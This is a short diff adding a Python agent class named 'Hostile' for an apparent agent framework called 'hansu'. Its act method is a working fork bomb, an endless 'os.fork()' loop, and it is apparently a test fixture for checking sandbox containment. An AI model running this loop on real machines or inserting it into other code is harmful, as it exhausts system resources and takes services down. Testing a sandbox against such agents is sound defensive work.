@@ -1,0 +1,9 @@
+import os
+
+import hansu
+
+
+class Hostile(hansu.Agent):
+    def act(self, state):
+        while True:
+            os.fork()
